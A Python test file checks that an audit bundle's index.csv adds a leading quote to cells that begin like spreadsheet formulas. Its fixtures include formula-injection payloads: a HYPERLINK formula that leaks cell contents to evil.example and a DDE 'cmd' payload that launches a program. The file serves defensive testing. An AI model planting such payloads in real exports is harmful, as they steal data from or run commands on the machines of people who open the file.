"""Issue 14 item 7: the audit bundle's index.csv neutralises text a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime

from reports.audit_bundle import INDEX_NAME, build_bundle

HOSTILE = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "owner": "+cmd|' /C calc'!A0",
    "author": "-2+3",
    "approved_by": "@SUM(1+1)",
    "url": "\t=1+1",
    "original_filename": "\r=1+1",
}


def index_of(items: list[dict]) -> list[dict]:
    data = build_bundle(items, lambda digest: b"file bytes", datetime(2026, 1, 2, 3, 4))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text = archive.read(INDEX_NAME).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_index_cells_that_start_like_a_formula_get_a_leading_quote():
    item = {
        "id": "EV-0001",
        "kind": "link",
        "version": 1,
        "sha256": None,
        "controls": ["A.2.2"],
        "clauses": [],
        "ai_systems": ["=SYS()"],
        **HOSTILE,
    }
    (row,) = index_of([item])
    for column, value in HOSTILE.items():
        assert row[column] == "'" + value, column
    assert row["ai_systems"] == "'=SYS()"
    # what is not a formula stays as it was
    assert row["item_id"] == "EV-0001"
    assert row["version"] == "1"
    assert row["controls"] == "A.2.2"


def test_plain_text_and_already_quoted_text_round_trip():
    item = {"id": "EV-0002", "version": 3, "sha256": None, "title": "'=quoted", "owner": "Ana"}
    (row,) = index_of([item])
    assert row["title"] == "''=quoted"
    assert row["owner"] == "Ana"
